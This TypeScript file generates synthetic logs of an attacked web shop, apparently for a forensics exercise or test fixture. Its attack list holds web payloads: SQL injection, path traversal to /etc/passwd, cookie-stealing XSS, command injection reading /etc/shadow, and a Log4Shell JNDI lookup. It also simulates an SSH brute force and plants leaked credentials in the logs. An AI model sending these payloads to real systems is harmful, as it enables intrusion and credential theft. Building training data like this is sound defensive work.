import { gzip, zip } from "./containers.ts";
import { dice } from "./random.ts";
import { attacker, clients, iso, people, START, secrets } from "./world.ts";

const MONTHS = ["Jan", "Feb", "Mar", "Apr"];
const two = (n: number): string => String(n).padStart(2, "0");

const clf = (ms: number): string => {
  const t = new Date(ms);
  return `${two(t.getUTCDate())}/${MONTHS[t.getUTCMonth()]}/${t.getUTCFullYear()}:${iso(ms).slice(11, 19)} +0000`;
};
const syslogTime = (ms: number): string => {
  const t = new Date(ms);
  return `${MONTHS[t.getUTCMonth()]} ${String(t.getUTCDate()).padStart(2)} ${iso(ms).slice(11, 19)}`;
};

const agents = [
  "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "curl/8.7.1",
];
const attacks = [
  "/login?user=admin'%20OR%20'1'='1&pass=x",
  "/../../../../etc/passwd",
  "/search?q=<script>alert(document.cookie)</script>",
  "/cgi-bin/test.cgi?x=;cat%20/etc/shadow",
  "/.env",
  "/wp-login.php",
  ["/?x=$", "{jndi:ldap://203.0.113.66:1389/a}"].join(""),
  "/product?id=1%20UNION%20SELECT%20password%20FROM%20users--",
];

const access = (): string => {
  const random = dice(11);
  let at = START;
  return Array.from({ length: 2600 }, (_, i) => {
    at += random.int(200, 4000);
    const hostile = i > 900 && i < 1400 && random.next() < 0.35;
    const client = hostile ? attacker.ip : random.pick(clients);
    const path = hostile
      ? random.pick(attacks)
      : random.pick(["/", "/cart", "/api/orders", "/static/app.js", "/health"]);
    const status = hostile ? random.pick([400, 403, 404, 500]) : random.pick([200, 200, 200, 304, 302]);
    return `${client} - - [${clf(at)}] "GET ${path} HTTP/1.1" ${status} ${random.int(120, 48000)} "-" "${hostile ? "sqlmap/1.8.4#stable (https://sqlmap.org)" : random.pick(agents)}"`;
  }).join("\n");
};

const auth = (): string => {
  const random = dice(12);
  let at = START;
  return Array.from({ length: 700 }, (_, i) => {
    at += random.int(1000, 9000);
    const head = `${syslogTime(at)} bastion-1 sshd[${random.int(900, 4000)}]:`;
    if (i === 520) return `${head} Accepted password for deploy from ${attacker.ip} port 51122 ssh2`;
    if (i > 300 && i < 520)
      return `${head} Failed password for ${random.pick(["root", "admin", "deploy", "invalid user oracle"])} from ${attacker.ip} port ${random.int(40000, 60000)} ssh2`;
    return `${head} Accepted publickey for ${random.pick(["alice", "bernard"])} from ${random.pick(clients)} port ${random.int(40000, 60000)} ssh2: ED25519 SHA256:${random.bytes(32).toString("base64").slice(0, 43)}`;
  }).join("\n");
};

const app = (): string => {
  const random = dice(13);
  let at = START;
  return Array.from({ length: 1500 }, (_, i) => {
    at += random.int(300, 5000);
    const base = { time: iso(at), level: "info", service: "shop", request: random.bytes(8).toString("hex") };
    if (i === 404)
      return '{"time":"2026-02-02T08:20:00.000Z","level":"error","service":"shop","message":"truncated rec';
    if (i === 700)
      return JSON.stringify({
        ...base,
        level: "debug",
        message: "environment",
        env: {
          AWS_ACCESS_KEY_ID: secrets.awsId,
          AWS_SECRET_ACCESS_KEY: secrets.awsKey,
          DATABASE_URL: secrets.databaseUrl,
        },
      });
    if (i === 701)
      return JSON.stringify({
        ...base,
        level: "warn",
        message: "token in query",
        url: `/api/orders?access_token=${secrets.jwt}`,
      });
    if (random.next() < 0.04)
      return JSON.stringify({
        ...base,
        level: "error",
        message: "payment failed",
        error: "ECONNREFUSED 198.51.100.140:5432",
        stack: "Error: connect ECONNREFUSED\n    at charge (/srv/shop/pay.js:41:13)",
      });
    return JSON.stringify({
      ...base,
      message: "order placed",
      user: random.pick(people).mail,
      total: random.int(500, 90000) / 100,
      client: random.pick(clients),
    });
  }).join("\n");
};

const kernel = (): string =>
  [
    "<6>Feb  2 09:01:00 app-2 kernel: [81234.120001] eth0: link up, 10000 Mbps",
    "<3>Feb  2 09:12:44 app-2 kernel: [81938.455120] EXT4-fs error (device nvme0n1p1): ext4_find_entry:1455: inode #2: comm shop",
    "<4>Feb  2 09:13:02 app-2 kernel: [81956.001002] Out of memory: Killed process 4121 (shop) total-vm:8123456kB",
  ].join("\n");

/** Logs of a web shop on the day it was attacked. */
export const incidentLogs = (): Promise<Buffer> =>
  zip({
    "nginx/access.log": `${access()}\n`,
    "bastion/auth.log": `${auth()}\n`,
    "shop/app.jsonl": `${app()}\n`,
    "shop/kernel.log.gz": gzip(`${kernel()}\n`),
    "README.txt": `Collected ${iso(START + 86_400_000)} by ${people[1].name} <${people[1].mail}>.\nSuspect: ${attacker.ip}, first seen on bastion-1.\n`,
  });
